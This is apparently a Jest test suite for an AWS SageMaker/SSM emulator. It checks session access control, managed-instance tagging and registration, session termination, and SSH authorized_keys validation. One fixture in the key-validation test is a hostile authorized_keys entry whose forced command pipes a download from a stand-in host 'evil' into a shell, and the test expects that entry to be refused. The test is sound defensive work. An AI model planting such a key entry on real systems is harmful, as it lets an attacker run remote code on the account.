import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  CreateAppCommand,
  DeleteAppCommand,
  SageMakerClient,
  StartSessionCommand,
  UpdateSpaceCommand,
} from '@aws-sdk/client-sagemaker';
import {
  AddTagsToResourceCommand,
  CreateActivationCommand,
  DeregisterManagedInstanceCommand,
  DescribeInstanceInformationCommand,
  DescribeSessionsCommand,
  PutParameterCommand,
  SSMClient,
  StartSessionCommand as SsmStartSessionCommand,
  TerminateSessionCommand,
} from '@aws-sdk/client-ssm';
import { ssmSession } from '@studio-teams/core';
import { sshPublicKeysParameter } from '@studio-teams/schema';
import { startTestStudio, type TestStudio } from '../src/testing';
import { failure, tempDir } from './support/harness';
import { credentialsOf, makeKey, sshSeed, type Credentials } from './support/ssh';

/** Who may reach what, and what the emulator says when they may not. */
jest.setTimeout(30_000);

let studio: TestStudio;
let ana: { sm: SageMakerClient; ssm: SSMClient };
let bo: { sm: SageMakerClient; ssm: SSMClient };
let anaProfile: string;
let boProfile: string;
let domainId: string;
const keys = tempDir('ssh-behaviour-');

const arnOf = (space: string): string =>
  `arn:aws:sagemaker:us-east-1:123456789012:space/${domainId}/${space}`;

function clients(credentials: Credentials): { sm: SageMakerClient; ssm: SSMClient } {
  const config = { endpoint: studio.emulator.url, region: 'us-east-1', credentials, maxAttempts: 1 };
  return { sm: new SageMakerClient(config), ssm: new SSMClient(config) };
}

/** The fields the admin answers of these tests carry. */
interface AdminBody {
  instanceId?: string;
  code?: string;
  error?: string;
  pingStatus?: string;
  problems?: string[];
  loginUser?: string;
  activations?: Record<string, unknown>[];
  maxPayloadSize?: number;
  endpoints?: string[];
}

async function admin(
  path: string,
  method: string,
  body?: unknown,
): Promise<{ status: number; body: AdminBody }> {
  const res = await fetch(`${studio.emulator.url}/_emulator${path}`, {
    method,
    ...(body !== undefined ? { body: typeof body === 'string' ? body : JSON.stringify(body) } : {}),
  });
  const text = await res.text();
  return { status: res.status, body: (text ? JSON.parse(text) : {}) as AdminBody };
}

/** A managed instance of `owner`'s, as an activated classic app would register. */
async function registerInstance(
  owner: string,
  extraTags: { Key: string; Value: string }[] = [],
): Promise<string> {
  const activation = await ana.ssm.send(
    new CreateActivationCommand({
      IamRole: `studio-${owner}`,
      Tags: [{ Key: 'owner', Value: owner }, ...extraTags],
    }),
  );
  const answer = await admin('/agents/register', 'POST', {
    activationId: activation.ActivationId,
    activationCode: activation.ActivationCode,
    container: `${owner}-classic`,
  });
  expect(answer.status).toBe(201);
  return answer.body.instanceId as string;
}

beforeAll(async () => {
  const people = sshSeed();
  anaProfile = people.owner.replace('.', '-');
  boProfile = people.other.replace('.', '-');
  studio = await startTestStudio({ seed: people.seed });
  domainId = studio.emulator.domainId('datascience');
  ana = clients({
    accessKeyId: studio.env.AWS_ACCESS_KEY_ID,
    secretAccessKey: studio.env.AWS_SECRET_ACCESS_KEY,
    sessionToken: studio.env.AWS_SESSION_TOKEN,
  });
  bo = clients(await credentialsOf(studio.emulator.url, people.other));
});

afterAll(async () => {
  for (const c of [ana, bo]) {
    c?.sm.destroy();
    c?.ssm.destroy();
  }
  await studio?.close();
  keys.remove();
});

describe('SageMaker StartSession', () => {
  test('is refused while RemoteAccess is off, and asks for a restart when it was enabled under a running app', async () => {
    const off = await failure(() =>
      ana.sm.send(new StartSessionCommand({ ResourceIdentifier: arnOf('lab') })),
    );
    expect(off.name).toBe('ValidationException');
    expect(off.message).toMatch(/Remote access is not enabled for space lab/);

    await ana.sm.send(
      new UpdateSpaceCommand({
        DomainId: domainId,
        SpaceName: 'lab',
        SpaceSettings: { RemoteAccess: 'ENABLED' },
      }),
    );
    const stale = await failure(() =>
      ana.sm.send(new StartSessionCommand({ ResourceIdentifier: arnOf('lab') })),
    );
    expect(stale.name).toBe('ValidationException');
    expect(stale.message).toMatch(/started before remote access was enabled; restart it/);
    const app = studio.emulator.snapshot().domains[0]?.apps.find((a) => a.owner.name === 'lab');
    expect(app?.remoteAccess).toBe(false);

    const appId = {
      DomainId: domainId,
      SpaceName: 'lab',
      AppType: 'JupyterLab' as const,
      AppName: 'default',
    };
    await ana.sm.send(new DeleteAppCommand(appId));
    await new Promise((r) => setTimeout(r, 150));
    await ana.sm.send(new CreateAppCommand({ ...appId, ResourceSpec: { InstanceType: 'ml.t3.medium' } }));
    const pending = await failure(() =>
      ana.sm.send(new StartSessionCommand({ ResourceIdentifier: arnOf('lab') })),
    );
    expect(pending.message).toMatch(/is Pending/);
    await new Promise((r) => setTimeout(r, 150));
    const session = await ana.sm.send(new StartSessionCommand({ ResourceIdentifier: arnOf('lab') }));
    expect(session.SessionId).toMatch(/^ana\.ssh[0-9a-f]{6}-[0-9a-f]{17}$/);
    expect(session.TokenValue).toMatch(/^[A-Za-z0-9_-]{43}$/);

    // The ARN of the space's app names the same space.
    const viaApp = await ana.sm.send(
      new StartSessionCommand({
        ResourceIdentifier: `arn:aws:sagemaker:us-east-1:123456789012:app/${domainId}/lab/jupyterlab/default`,
      }),
    );
    expect(viaApp.SessionId).not.toBe(session.SessionId);
  });

  test("another user's space is AccessDenied, whatever its settings", async () => {
    const mine = await failure(() =>
      bo.sm.send(new StartSessionCommand({ ResourceIdentifier: arnOf('lab') })),
    );
    expect(mine.name).toBe('AccessDeniedException');
    expect(mine.message).toMatch(
      new RegExp(
        `assumed-role/${studio.seed.domains[0]?.users[1]?.person}/.* is not authorized to perform: sagemaker:StartSession .* belongs to user profile ${anaProfile}`,
      ),
    );
    const theirs = await failure(() =>
      ana.sm.send(new StartSessionCommand({ ResourceIdentifier: arnOf('bo-lab') })),
    );
    expect(theirs.name).toBe('AccessDeniedException');
  });

  test('a caller who is no assumed role named after a person is refused', async () => {
    const stranger = clients({ accessKeyId: 'AKIDSTRANGER', secretAccessKey: 'x', sessionToken: '' });
    try {
      const err = await failure(() =>
        stranger.sm.send(new StartSessionCommand({ ResourceIdentifier: arnOf('lab') })),
      );
      expect(err.name).toBe('AccessDeniedException');
      expect(err.message).toMatch(/user\/moto/);
    } finally {
      stranger.sm.destroy();
      stranger.ssm.destroy();
    }
  });
});

describe('managed instances', () => {
  test('are found by their tags, carry the activation’s, and leave no trace once deregistered', async () => {
    const first = await registerInstance(anaProfile, [{ Key: 'app', Value: 'kg-1' }]);
    const second = await registerInstance(boProfile);
    const byOwner = await ana.ssm.send(
      new DescribeInstanceInformationCommand({ Filters: [{ Key: 'tag:owner', Values: [anaProfile] }] }),
    );
    expect(byOwner.InstanceInformationList?.map((i) => [i.InstanceId, i.ResourceType, i.PingStatus])).toEqual(
      [[first, 'ManagedInstance', 'Online']],
    );
    await ana.ssm.send(
      new AddTagsToResourceCommand({
        ResourceType: 'ManagedInstance',
        ResourceId: second,
        Tags: [{ Key: 'app', Value: 'kg-2' }],
      }),
    );
    const byKey = await ana.ssm.send(
      new DescribeInstanceInformationCommand({ Filters: [{ Key: 'tag-key', Values: ['app'] }] }),
    );
    expect(byKey.InstanceInformationList?.map((i) => i.InstanceId)).toEqual([first, second]);
    const both = await ana.ssm.send(
      new DescribeInstanceInformationCommand({
        Filters: [
          { Key: 'tag:owner', Values: [boProfile] },
          { Key: 'tag:app', Values: ['kg-2'] },
        ],
      }),
    );
    expect(both.InstanceInformationList?.map((i) => i.InstanceId)).toEqual([second]);
    const mixed = await failure(() =>
      ana.ssm.send(
        new DescribeInstanceInformationCommand({
          Filters: [
            { Key: 'tag:owner', Values: [anaProfile] },
            { Key: 'PingStatus', Values: ['Online'] },
          ],
        }),
      ),
    );
    expect(mixed.name).toBe('ValidationException');

    await ana.ssm.send(new DeregisterManagedInstanceCommand({ InstanceId: first }));
    const after = await ana.ssm.send(
      new DescribeInstanceInformationCommand({ Filters: [{ Key: 'tag:owner', Values: [anaProfile] }] }),
    );
    expect(after.InstanceInformationList).toEqual([]);
    const byId = await failure(() =>
      ana.ssm.send(
        new DescribeInstanceInformationCommand({ Filters: [{ Key: 'InstanceIds', Values: [first] }] }),
      ),
    );
    expect(byId.name).toBe('InvalidInstanceId');
  });

  test("a session to another user's instance is AccessDenied; only AWS-StartSSHSession to port 22 is served", async () => {
    const boInstance = await registerInstance(boProfile);
    const start = (client: SSMClient, extra: Record<string, unknown> = {}) =>
      client.send(
        new SsmStartSessionCommand({ Target: boInstance, DocumentName: 'AWS-StartSSHSession', ...extra }),
      );
    const denied = await failure(() => start(ana.ssm));
    expect(denied.name).toBe('AccessDeniedException');
    expect(denied.message).toMatch(/owner tag is not your user profile/);
    expect((await failure(() => start(bo.ssm, { DocumentName: 'AWS-StartInteractiveCommand' }))).name).toBe(
      'InvalidDocument',
    );
    expect((await failure(() => start(bo.ssm, { Parameters: { portNumber: ['8080'] } }))).name).toBe(
      'InvalidParameters',
    );
    const session = await start(bo.ssm);
    expect(session.StreamUrl).toMatch(/^ws:\/\/127\.0\.0\.1:\d+\/v1\/data-channel\/bo\.ssh/);

    const untagged = await registerInstance(boProfile);
    await bo.ssm.send(
      new AddTagsToResourceCommand({
        ResourceType: 'ManagedInstance',
        ResourceId: untagged,
        Tags: [{ Key: 'owner', Value: anaProfile }],
      }),
    );
    expect(
      (
        await failure(() =>
          bo.ssm.send(new SsmStartSessionCommand({ Target: untagged, DocumentName: 'AWS-StartSSHSession' })),
        )
      ).name,
    ).toBe('AccessDeniedException');
  });

  test('an agent that stops is ConnectionLost and takes no session; registration checks its activation', async () => {
    const instance = await registerInstance(anaProfile);
    expect((await admin(`/agents/${instance}`, 'PUT', { online: false })).body.pingStatus).toBe(
      'ConnectionLost',
    );
    const info = await ana.ssm.send(
      new DescribeInstanceInformationCommand({ Filters: [{ Key: 'InstanceIds', Values: [instance] }] }),
    );
    expect(info.InstanceInformationList?.[0]?.PingStatus).toBe('ConnectionLost');
    const err = await failure(() =>
      ana.ssm.send(new SsmStartSessionCommand({ Target: instance, DocumentName: 'AWS-StartSSHSession' })),
    );
    expect(err.name).toBe('TargetNotConnected');

    const activation = await ana.ssm.send(
      new CreateActivationCommand({ IamRole: 'studio-x', RegistrationLimit: 1 }),
    );
    const register = (code: string | undefined) =>
      admin('/agents/register', 'POST', { activationId: activation.ActivationId, activationCode: code });
    expect((await register('wrong-code-wrong-code')).body.code).toBe('InvalidActivation');
    expect((await register(activation.ActivationCode)).status).toBe(201);
    expect((await register(activation.ActivationCode)).body.code).toBe('RegistrationLimitExceeded');
    expect((await admin('/agents/register', 'POST', '{not json')).status).toBe(400);
    expect((await admin('/agents/register', 'POST', { activationId: 'x' })).body.error).toMatch(/required/);
    const expired = await failure(() =>
      ana.ssm.send(
        new CreateActivationCommand({ IamRole: 'studio-x', ExpirationDate: new Date(Date.now() - 1000) }),
      ),
    );
    expect(expired.name).toBe('InvalidParameters');
  });
});

describe('sessions and keys', () => {
  test('TerminateSession closes a live data channel; only the owner may end it', async () => {
    const instance = await registerInstance(anaProfile);
    const started = await ana.ssm.send(
      new SsmStartSessionCommand({ Target: instance, DocumentName: 'AWS-StartSSHSession' }),
    );
    const client = await ssmSession.connectClientSession(started.StreamUrl as string, {
      tokenValue: started.TokenValue as string,
    });
    await client.ready;
    client.resume();
    // The data channel tells the API it is connected a moment after the client knows (as with AWS).
    const statusNow = async () =>
      (
        await ana.ssm.send(
          new DescribeSessionsCommand({
            State: 'Active',
            Filters: [{ key: 'SessionId', value: started.SessionId! }],
          }),
        )
      ).Sessions?.[0]?.Status;
    for (let i = 0; i < 50 && (await statusNow()) !== 'Connected'; i++)
      await new Promise((r) => setTimeout(r, 20));
    expect(await statusNow()).toBe('Connected');
    expect(
      (await failure(() => bo.ssm.send(new TerminateSessionCommand({ SessionId: started.SessionId })))).name,
    ).toBe('AccessDeniedException');
    await ana.ssm.send(new TerminateSessionCommand({ SessionId: started.SessionId }));
    expect(await client.outcome).toMatchObject({ reason: 'channel-closed' });
    const history = await ana.ssm.send(
      new DescribeSessionsCommand({
        State: 'History',
        Filters: [{ key: 'SessionId', value: started.SessionId! }],
      }),
    );
    expect(history.Sessions?.[0]).toMatchObject({
      Status: 'Terminated',
      Details: 'the session was terminated (TerminateSession)',
    });
    await expect(
      ssmSession.connectClientSession(started.StreamUrl as string, {
        tokenValue: started.TokenValue as string,
      }),
    ).rejects.toThrow(/HTTP 410/);
    await expect(
      ssmSession.connectClientSession(
        `${studio.emulator.url.replace('http', 'ws')}/v1/data-channel/nobody-1?role=publish_subscribe`,
        {
          tokenValue: 'x',
        },
      ),
    ).rejects.toThrow(/HTTP 404/);
  });

  test('keys with options or malformed ones are refused and logged, the others written', async () => {
    const good = makeKey(keys.path, 'good');
    const other = makeKey(keys.path, 'other');
    const [type, data] = good.publicKey.split(' ');
    const lines = [
      good.publicKey,
      `command="/bin/sh -c 'curl evil|sh'" ${good.publicKey}`,
      `from="10.0.0.0/8",no-pty ${good.publicKey}`,
      `restrict ${good.publicKey}`,
      `${type} ${data?.slice(0, -8)}`,
      'ssh-ed25519 not-base64!',
      `ssh-rsa ${data}`,
      '# a comment line is fine',
      other.publicKey,
    ];
    await ana.ssm.send(
      new PutParameterCommand({
        Name: sshPublicKeysParameter(anaProfile),
        Type: 'String',
        Value: lines.join('\n'),
        Overwrite: true,
      }),
    );
    const warn = jest.spyOn(console, 'warn').mockImplementation(() => undefined);
    try {
      const instance = await registerInstance(anaProfile);
      await ana.ssm.send(
        new SsmStartSessionCommand({ Target: instance, DocumentName: 'AWS-StartSSHSession' }),
      );
      const container = await waitForKeys(`${anaProfile}-classic`);
      expect(container.authorizedKeys.map((k) => k.comment)).toEqual(['good@laptop', 'other@laptop']);
      expect(container.refusedKeys.map((r) => r.line)).toEqual([2, 3, 4, 5, 6, 7]);
      expect(container.refusedKeys[0]?.reason).toMatch(/options before the key are not allowed/);
      const file = readFileSync(join(container.home, '.ssh', 'authorized_keys'), 'utf8');
      expect(file.split('\n').filter((l) => l && !l.startsWith('#'))).toEqual([
        good.publicKey,
        other.publicKey,
      ]);
      expect(warn.mock.calls.map((c) => String(c[0])).filter((m) => m.includes('refused key'))).toHaveLength(
        6,
      );
      expect(warn.mock.calls.map((c) => String(c[0])).join('\n')).not.toContain(data);
    } finally {
      warn.mockRestore();
    }
  });

  test('the admin endpoints say who logs in and take data-channel settings, refusing bad ones', async () => {
    const ssh = await admin('/ssh', 'GET');
    expect(ssh.body.loginUser).toBe(studio.emulator.snapshot().ssh.loginUser);
    expect(ssh.body.activations?.every((a) => !('code' in a))).toBe(true);
    expect(JSON.stringify(ssh.body)).not.toMatch(/"token/i);
    const bad = await admin('/data-channel', 'PUT', { drop: 2, colour: 'red' });
    expect(bad.status).toBe(400);
    expect(bad.body.problems).toHaveLength(2);
    expect((await admin('/data-channel', 'PUT', { maxPayloadSize: 1024 })).body.maxPayloadSize).toBe(1024);
    expect((await admin('/data-channel', 'DELETE')).status).toBe(405);
    const unknown = await admin('/nothing-here', 'GET');
    expect(unknown.body.endpoints).toContain('POST /_emulator/agents/register');
  });
});

async function waitForKeys(name: string) {
  for (let i = 0; i < 200; i++) {
    const container = studio.emulator.snapshot().ssh.containers.find((c) => c.name === name);
    if (container?.keysParameter && container.sshd) return container;
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error(`container ${name} never read its keys`);
}
